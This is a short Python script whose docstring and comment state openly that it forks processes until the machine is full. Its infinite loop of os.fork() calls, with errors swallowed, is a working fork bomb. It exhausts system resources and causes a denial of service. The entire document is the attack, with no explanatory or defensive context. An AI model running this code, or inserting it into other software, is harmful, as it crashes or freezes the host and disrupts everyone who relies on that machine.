"""Forks until the machine is full."""
# harms: the machine

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
